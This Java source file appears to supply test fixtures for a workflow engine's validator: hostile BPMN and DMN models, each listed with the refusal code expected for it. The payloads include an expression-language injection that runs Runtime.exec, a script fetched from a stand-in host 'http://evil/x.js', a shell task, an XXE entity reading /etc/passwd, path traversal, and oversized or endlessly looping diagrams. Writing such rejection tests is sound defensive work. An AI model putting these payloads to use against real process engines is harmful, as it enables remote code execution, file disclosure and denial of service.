package org.opora.engine;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.List;

/** Models that a stock engine would run to somebody's harm, each with the reason for which it must be refused. */
public final class HostileModels {

    /** @param code the refusal expected among those found */
    public record Hostile(String name, String resource, byte[] content, String code) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static final String EVIL =
            "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch opora-hacked')}";
    private static final String HEAD =
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
              xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:bioc="http://bpmn.io/schema/bpmn/biocolor/1.0" targetNamespace="t">
            """;

    private final List<Hostile> all = new ArrayList<>();

    public static List<Hostile> all() {
        HostileModels models = new HostileModels();
        models.tasks();
        models.listeners();
        models.expressions();
        models.disguises();
        models.sizes();
        models.loops();
        models.decisions();
        return models.all;
    }

    /** The smallest diagram that is allowed, with something in the middle. */
    public static String diagram(String key, String processAttributes, String step) {
        return HEAD
                + """
                <process id="%s" isExecutable="true" camunda:historyTimeToLive="P1D" %s>
                <startEvent id="startEvent_a"/><sequenceFlow id="f1" sourceRef="startEvent_a" targetRef="step"/>
                %s
                <sequenceFlow id="f2" sourceRef="step" targetRef="endEvent_a"/><endEvent id="endEvent_a"/></process></definitions>
                """
                        .formatted(key, processAttributes, step);
    }

    private void step(String name, String code, String step) {
        add(name, diagram("hostile", "", step), code);
    }

    private void add(String name, String xml, String code) {
        all.add(new Hostile(name, "bpmn/hostile.bpmn", xml.getBytes(UTF_8), code));
    }

    private void tasks() {
        step(
                "script task",
                "element",
                "<scriptTask id=\"step\" scriptFormat=\"groovy\"><script>1</script></scriptTask>");
        step(
                "script task, external resource",
                "element",
                "<scriptTask id=\"step\" scriptFormat=\"javascript\" camunda:resource=\"http://evil/x.js\"/>");
        step(
                "shell task",
                "attribute",
                "<serviceTask id=\"step\" camunda:type=\"shell\"><extensionElements><camunda:field name=\"command\"><camunda:string>id</camunda:string></camunda:field></extensionElements></serviceTask>");
        step("mail task", "attribute", "<serviceTask id=\"step\" camunda:type=\"mail\"/>");
        step("external task", "attribute", "<serviceTask id=\"step\" camunda:type=\"external\" camunda:topic=\"x\"/>");
        step(
                "class",
                "attribute",
                "<serviceTask id=\"step\" camunda:class=\"org.camunda.bpm.engine.impl.bpmn.behavior.ShellActivityBehavior\"/>");
        step(
                "class beside a delegate",
                "attribute",
                "<serviceTask id=\"step\" camunda:delegateExpression=\"${okDelegate}\" camunda:class=\"javax.script.ScriptEngineManager\"/>");
        step("expression", "attribute", "<serviceTask id=\"step\" camunda:expression=\"" + EVIL + "\"/>");
        step(
                "unknown delegate",
                "unknownDelegate",
                "<serviceTask id=\"step\" camunda:delegateExpression=\"${processEngineDelegate0x}\"/>"
                        .replace("processEngineDelegate0x", "dataSourceXDelegate"));
        step(
                "delegate that is a bean",
                "expression",
                "<serviceTask id=\"step\" camunda:delegateExpression=\"${dataSource}\"/>");
        step(
                "delegate with a call",
                "expression",
                "<serviceTask id=\"step\" camunda:delegateExpression=\"${okDelegate.execute(execution)}\"/>");
        step("service task without a delegate", "noDelegate", "<serviceTask id=\"step\"/>");
        step("business rule task", "element", "<businessRuleTask id=\"step\" camunda:decisionRef=\"x\"/>");
        step("send task", "element", "<sendTask id=\"step\" camunda:delegateExpression=\"${okDelegate}\"/>");
        step(
                "connector",
                "element",
                "<serviceTask id=\"step\" camunda:delegateExpression=\"${okDelegate}\"><extensionElements><camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector></extensionElements></serviceTask>");
        step(
                "field injection",
                "element",
                "<serviceTask id=\"step\" camunda:delegateExpression=\"${okDelegate}\"><extensionElements><camunda:field name=\"x\" stringValue=\"y\"/></extensionElements></serviceTask>");
        step(
                "script in an input parameter",
                "element",
                "<userTask id=\"step\"><extensionElements><camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script scriptFormat=\"groovy\">1</camunda:script></camunda:inputParameter></camunda:inputOutput></extensionElements></userTask>");
        step(
                "message thrown by a class",
                "attribute",
                "<intermediateThrowEvent id=\"step\"><messageEventDefinition camunda:class=\"x.Y\"/></intermediateThrowEvent>");
        step(
                "variable mapping class",
                "attribute",
                "<callActivity id=\"step\" calledElement=\"order\" camunda:variableMappingClass=\"x.Y\"/>");
        step("case call", "attribute", "<callActivity id=\"step\" camunda:caseRef=\"x\"/>");
        step(
                "signal over all municipalities",
                "element",
                "<intermediateThrowEvent id=\"step\"><signalEventDefinition signalRef=\"s\"/></intermediateThrowEvent>");
        add(
                "condition that is a script",
                condition(
                        "<conditionExpression xsi:type=\"tFormalExpression\" language=\"groovy\">true</conditionExpression>"),
                "attribute");
        add(
                "condition from a resource",
                condition(
                        "<conditionExpression xsi:type=\"tFormalExpression\" camunda:resource=\"x\">${a}</conditionExpression>"),
                "attribute");
    }

    private void listeners() {
        String listener = "<extensionElements><camunda:executionListener event=\"start\" %s/></extensionElements>";
        step(
                "listener with a class",
                "element",
                "<userTask id=\"step\">" + listener.formatted("class=\"x.Y\"") + "</userTask>");
        step(
                "listener with an expression",
                "element",
                "<userTask id=\"step\">" + listener.formatted("expression=\"" + EVIL + "\"") + "</userTask>");
        step(
                "listener with a delegate",
                "element",
                "<userTask id=\"step\">" + listener.formatted("delegateExpression=\"${okDelegate}\"") + "</userTask>");
        step(
                "task listener with a script",
                "element",
                "<userTask id=\"step\"><extensionElements><camunda:taskListener event=\"create\"><camunda:script scriptFormat=\"groovy\">1</camunda:script></camunda:taskListener></extensionElements></userTask>");
        add(
                "listener of the process",
                diagram("hostile", "", "<task id=\"step\"/>")
                        .replace("<startEvent", listener.formatted("expression=\"" + EVIL + "\"") + "<startEvent"),
                "element");
        add(
                "listener on a flow",
                diagram("hostile", "", "<task id=\"step\"/>")
                        .replace(
                                "targetRef=\"step\"/>",
                                "targetRef=\"step\">"
                                        + "<extensionElements><camunda:executionListener event=\"take\" class=\"x.Y\"/></extensionElements></sequenceFlow>"),
                "element");
    }

    private void expressions() {
        for (String attribute :
                List.of("assignee", "dueDate", "followUpDate", "priority", "candidateGroups", "formKey")) {
            step(
                    "reflection in " + attribute,
                    "expression",
                    "<userTask id=\"step\" camunda:" + attribute + "=\"" + EVIL + "\"/>");
        }
        step("reflection in the name", "expression", "<userTask id=\"step\" name=\"" + EVIL + "\"/>");
        step(
                "reflection in the description",
                "expression",
                "<userTask id=\"step\"><documentation>" + EVIL + "</documentation></userTask>");
        step("deferred expression", "expression", "<userTask id=\"step\" camunda:assignee=\"#{x.y}\"/>");
        step("the engine's own object", "expression", "<userTask id=\"step\" camunda:assignee=\"${execution}\"/>");
        step("a property", "expression", "<userTask id=\"step\" camunda:assignee=\"${task.id}\"/>");
        step("an index", "expression", "<userTask id=\"step\" camunda:assignee=\"${a['b']}\"/>");
        step("candidate users", "attribute", "<userTask id=\"step\" camunda:candidateUsers=\"" + EVIL + "\"/>");
        step(
                "form reference",
                "attribute",
                "<userTask id=\"step\" camunda:formRef=\"x\" camunda:formRefBinding=\"latest\"/>");
        step("called element", "expression", "<callActivity id=\"step\" calledElement=\"" + EVIL + "\"/>");
        step(
                "call tenant",
                "attribute",
                "<callActivity id=\"step\" calledElement=\"order\" camunda:calledElementTenantId=\"other\"/>");
        step(
                "call mapping",
                "expression",
                "<callActivity id=\"step\" calledElement=\"order\"><extensionElements><camunda:in sourceExpression=\""
                        + EVIL + "\" target=\"x\"/></extensionElements></callActivity>");
        step(
                "call business key",
                "expression",
                "<callActivity id=\"step\" calledElement=\"order\"><extensionElements><camunda:in businessKey=\"" + EVIL
                        + "\"/></extensionElements></callActivity>");
        step(
                "input parameter",
                "expression",
                "<userTask id=\"step\"><extensionElements><camunda:inputOutput><camunda:inputParameter name=\"x\">"
                        + EVIL + "</camunda:inputParameter></camunda:inputOutput></extensionElements></userTask>");
        step(
                "timer",
                "timer",
                "<intermediateCatchEvent id=\"step\"><timerEventDefinition><timeDuration xsi:type=\"tFormalExpression\">"
                        + EVIL + "</timeDuration></timerEventDefinition></intermediateCatchEvent>");
        step(
                "timer that spins",
                "timer",
                "<intermediateCatchEvent id=\"step\"><timerEventDefinition><timeDuration xsi:type=\"tFormalExpression\">PT0S</timeDuration></timerEventDefinition></intermediateCatchEvent>");
        step(
                "retry cycle",
                "expression",
                "<task id=\"step\" camunda:asyncBefore=\"true\"><extensionElements><camunda:failedJobRetryTimeCycle>"
                        + EVIL + "</camunda:failedJobRetryTimeCycle></extensionElements></task>");
        step(
                "collection",
                "expression",
                "<userTask id=\"step\"><multiInstanceLoopCharacteristics camunda:collection=\"" + EVIL
                        + "\"/></userTask>");
        step(
                "cardinality",
                "expression",
                "<userTask id=\"step\"><multiInstanceLoopCharacteristics><loopCardinality xsi:type=\"tFormalExpression\">"
                        + EVIL + "</loopCardinality></multiInstanceLoopCharacteristics></userTask>");
        add(
                "message name",
                diagram("hostile", "", "<task id=\"step\"/>")
                        .replace("<process", "<message id=\"m\" name=\"" + EVIL + "\"/><process"),
                "expression");
        add(
                "job priority",
                diagram("hostile", "camunda:jobPriority=\"" + EVIL + "\"", "<task id=\"step\"/>"),
                "attribute");
        add(
                "candidate starters",
                diagram("hostile", "camunda:candidateStarterUsers=\"" + EVIL + "\"", "<task id=\"step\"/>"),
                "attribute");
        for (String text : List.of(
                EVIL, "${a.b}", "${a == b}", "${f(a)}", "${a == 'x'; b}", "${true ? a : b}", "${a}${b}", "#{a}")) {
            add(
                    "condition " + text,
                    condition("<conditionExpression xsi:type=\"tFormalExpression\">" + text.replace("&", "&amp;")
                            + "</conditionExpression>"),
                    "expression");
        }
    }

    private void disguises() {
        String script = "<scriptTask id=\"step\" scriptFormat=\"groovy\"><script>1</script></scriptTask>";
        step(
                "script task in a colour namespace",
                "namespace",
                "<bioc:scriptTask id=\"step\" scriptFormat=\"groovy\"><bioc:script>1</bioc:script></bioc:scriptTask>");
        step(
                "script task in no namespace",
                "namespace",
                "<scriptTask xmlns=\"\" id=\"step\" scriptFormat=\"groovy\"><script>1</script></scriptTask>");
        step(
                "script task in a prefix of one's own",
                "element",
                "<x:scriptTask xmlns:x=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" id=\"step\"/>");
        step(
                "the engine's former namespace",
                "attribute",
                "<serviceTask id=\"step\" xmlns:activiti=\"http://activiti.org/bpmn\" activiti:class=\"x.Y\"/>");
        step("class without a namespace", "attribute", "<serviceTask id=\"step\" class=\"x.Y\"/>");
        step("class in a colour namespace", "attribute", "<serviceTask id=\"step\" bioc:class=\"x.Y\"/>");
        step(
                "script in CDATA",
                "expression",
                "<userTask id=\"step\"><documentation><![CDATA[" + EVIL + "]]></documentation></userTask>");
        step(
                "script behind character references",
                "expression",
                "<userTask id=\"step\" camunda:assignee=\"&#36;&#123;a.b&#125;\"/>");
        add(
                "script task below the drawing",
                diagram("hostile", "", "<task id=\"step\"/>")
                        .replace(
                                "</definitions>",
                                "<d:BPMNDiagram xmlns:d=\"http://www.omg.org/spec/BPMN/20100524/DI\">" + script
                                        + "</d:BPMNDiagram></definitions>"),
                "element");
        String plain = diagram("hostile", "", "<task id=\"step\"/>");
        encoded("UTF-16", plain.replace("UTF-8", "UTF-16"), UTF_16);
        encoded("Latin", plain.replace("UTF-8", "ISO-8859-1"), UTF_8);
        encoded("EBCDIC", diagram("hostile", "", script).replace("UTF-8", "IBM037"), Charset.forName("IBM037"));
        add(
                "DOCTYPE",
                plain.replace("?>", "?><!DOCTYPE definitions [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
                "doctype");
        add(
                "billion laughs",
                plain.replace("?>", "?><!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]>"),
                "doctype");
        add("not XML", "#!/bin/sh\nid", "notXml");
        add("another format", "<html xmlns=\"http://www.w3.org/1999/xhtml\"/>", "notADiagram");
        all.add(new Hostile("a name outside the folder", "../../evil.bpmn", plain.getBytes(UTF_8), "resource"));
        all.add(new Hostile("a case", "bpmn/hostile.cmmn", plain.getBytes(UTF_8), "resource"));
        all.add(new Hostile("a script beside the diagram", "x.groovy", "1".getBytes(UTF_8), "resource"));
        all.add(new Hostile("a second ending", "bpmn/hostile.bpmn20.xml", plain.getBytes(UTF_8), "resource"));
    }

    private void encoded(String name, String xml, Charset charset) {
        all.add(new Hostile("encoding " + name, "bpmn/hostile.bpmn", xml.getBytes(charset), "encoding"));
    }

    private void sizes() {
        add(
                "more than a megabyte",
                diagram(
                        "hostile",
                        "",
                        "<task id=\"step\"><documentation>" + "x".repeat(1_100_000) + "</documentation></task>"),
                "tooBig");
        StringBuilder many = new StringBuilder("<task id=\"step\"/>");
        for (int i = 0; i < 600; i++) {
            many.append("<task id=\"t").append(i).append("\"/>");
        }
        step("600 nodes", "tooManyNodes", many.toString());
        step("60 levels", "tooDeep", "<subProcess>".repeat(60) + "</subProcess>".repeat(60));
        step(
                "a thousand instances",
                "tooManyInstances",
                "<userTask id=\"step\"><multiInstanceLoopCharacteristics><loopCardinality xsi:type=\"tFormalExpression\">1000</loopCardinality></multiInstanceLoopCharacteristics></userTask>");
    }

    private void loops() {
        String back =
                "<sequenceFlow id=\"f3\" sourceRef=\"g\" targetRef=\"step\"><conditionExpression xsi:type=\"tFormalExpression\">${a}</conditionExpression></sequenceFlow>";
        step(
                "endless loop",
                "loop",
                "<task id=\"step\"/><sequenceFlow id=\"f4\" sourceRef=\"step\" targetRef=\"g\"/><exclusiveGateway id=\"g\"/>"
                        + back);
        step(
                "endless loop of asynchronous steps",
                "loop",
                "<serviceTask id=\"step\" camunda:asyncBefore=\"true\" camunda:delegateExpression=\"${okDelegate}\"/><sequenceFlow id=\"f4\" sourceRef=\"step\" targetRef=\"g\"/><exclusiveGateway id=\"g\" camunda:asyncBefore=\"true\"/>"
                        + back);
        step(
                "endless loop over an error",
                "loop",
                "<serviceTask id=\"step\" camunda:delegateExpression=\"${okDelegate}\"/><boundaryEvent id=\"b\" attachedToRef=\"step\"><errorEventDefinition/></boundaryEvent><sequenceFlow id=\"f4\" sourceRef=\"b\" targetRef=\"step\"/>");
        step(
                "endless loop through a sub-process",
                "loop",
                "<subProcess id=\"step\"><startEvent id=\"s2\"/><sequenceFlow id=\"f5\" sourceRef=\"s2\" targetRef=\"e2\"/><endEvent id=\"e2\"/></subProcess><sequenceFlow id=\"f4\" sourceRef=\"step\" targetRef=\"step\"/>");
        step("a diagram that calls itself", "callsItself", "<callActivity id=\"step\" calledElement=\"hostile\"/>");
        add(
                "a start by the clock",
                diagram("hostile", "", "<task id=\"step\"/>")
                        .replace(
                                "<startEvent id=\"startEvent_a\"/>",
                                "<startEvent id=\"startEvent_a\"><timerEventDefinition><timeCycle xsi:type=\"tFormalExpression\">R3/PT1H</timeCycle></timerEventDefinition></startEvent>"),
                "startsByItself");
        add(
                "no start",
                HEAD
                        + "<process id=\"hostile\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\"><endEvent id=\"e\"/></process></definitions>",
                "noStart");
    }

    private void decisions() {
        decision("JUEL", "expressionLanguage=\"juel\"", "language");
        decision("JavaScript", "expressionLanguage=\"javascript\"", "language");
        decision("Groovy", "expressionLanguage=\"Groovy\"", "language");
        dmn(
                "Java function in FEEL",
                decisionXml(
                        "",
                        "function(x) external { java: { class: \"java.lang.Runtime\", method signature: \"exec(String)\" } }"),
                "feel");
        dmn(
                "a business knowledge model",
                decisionXml("", "1").replace("<decision ", "<businessKnowledgeModel id=\"b\" name=\"b\"/><decision "),
                "element");
        dmn(
                "a foreign namespace",
                decisionXml("", "1").replace("<decision ", "<x:import xmlns:x=\"http://evil\" id=\"b\"/><decision "),
                "namespace");
        dmn("DOCTYPE in a decision", decisionXml("", "1").replace("?>", "?><!DOCTYPE d []>"), "doctype");
        dmn(
                "no decision",
                "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\" id=\"d\" name=\"d\" namespace=\"t\"/>",
                "noDecision");
    }

    private void decision(String name, String attribute, String code) {
        dmn("decision in " + name, decisionXml(attribute, "1"), code);
    }

    private void dmn(String name, String xml, String code) {
        all.add(new Hostile(name, "bpmn/hostile.dmn", xml.getBytes(UTF_8), code));
    }

    private static String decisionXml(String attribute, String text) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="t">
                <decision id="hostile" name="h"><decisionTable id="t"><input id="i"><inputExpression id="ie" %s><text>%s</text></inputExpression></input><output id="o" name="o"/></decisionTable></decision></definitions>
                """
                .formatted(attribute, text);
    }

    private static String condition(String condition) {
        return diagram(
                "hostile",
                "",
                """
                <exclusiveGateway id="step" default="f2"/><sequenceFlow id="f9" sourceRef="step" targetRef="endEvent_b">%s</sequenceFlow><endEvent id="endEvent_b"/>
                """
                        .formatted(condition));
    }
}
